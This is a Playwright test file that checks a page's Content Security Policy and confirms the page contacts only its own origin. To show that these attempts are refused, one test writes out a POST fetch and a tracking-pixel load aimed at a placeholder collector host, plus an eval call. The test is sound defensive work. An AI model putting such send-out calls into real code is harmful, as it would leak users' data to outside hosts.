import { expect, test } from "./playground.ts";

test.describe("the content security policy", () => {
  test.use({ provokesFaults: true });

  test("is sent with the page and written in it", async ({ playground }) => {
    const response = await playground.page.goto("./");
    const header = response?.headers()["content-security-policy"] ?? "";
    const meta = await playground.page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .evaluate((element) => element.getAttribute("content") ?? "");
    for (const policy of [header, meta]) {
      expect(policy).toContain("default-src 'none'");
      expect(policy).toContain("connect-src 'self'");
      expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
      expect(policy).toContain("style-src 'self'");
      expect(policy).not.toContain("unsafe-inline");
      expect(policy).not.toContain("'unsafe-eval'");
    }
    expect(header).toContain("frame-ancestors 'none'");
  });

  test("lets nothing out and nothing inline in", async ({ playground }) => {
    await playground.visit();
    const outcome = await playground.page.evaluate(async () => {
      const violated: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) => violated.push(event.effectiveDirective));
      const sent = await fetch("https://elsewhere.example/collect", { method: "POST", body: "x" }).then(
        () => "sent",
        () => "refused",
      );
      const image = new Image();
      image.src = "https://elsewhere.example/pixel.png";
      const style = document.createElement("style");
      style.textContent = "body { outline: 1px solid }";
      document.head.append(style);
      // Not in this call: what a debugger runs may evaluate.
      const evaluated = await new Promise((resolve) => {
        setTimeout(() => {
          try {
            resolve((0, eval)("1 + 1"));
          } catch (error) {
            resolve(error instanceof EvalError ? "refused" : error);
          }
        });
      });
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { sent, evaluated, violated: [...new Set(violated)].toSorted() };
    });
    expect(outcome.sent).toBe("refused");
    expect(outcome.evaluated).toBe("refused");
    expect(outcome.violated).toEqual(["connect-src", "img-src", "script-src", "style-src-elem"]);
  });
});

test("nothing but the page's own files is asked for, whatever is done", async ({ playground }) => {
  const asked: string[] = [];
  playground.page.on("request", (request) => asked.push(`${request.method()} ${request.url()}`));
  await playground.visit();
  await playground.chips.first().click();
  await playground.paste("secret=1\n".repeat(200));
  await playground.settled();
  const origin = new URL(playground.page.url()).origin;
  expect(asked.length).toBeGreaterThan(3);
  expect(asked.filter((line) => !line.startsWith(`GET ${origin}/`) && !line.startsWith(`GET blob:${origin}/`))).toEqual(
    [],
  );
});
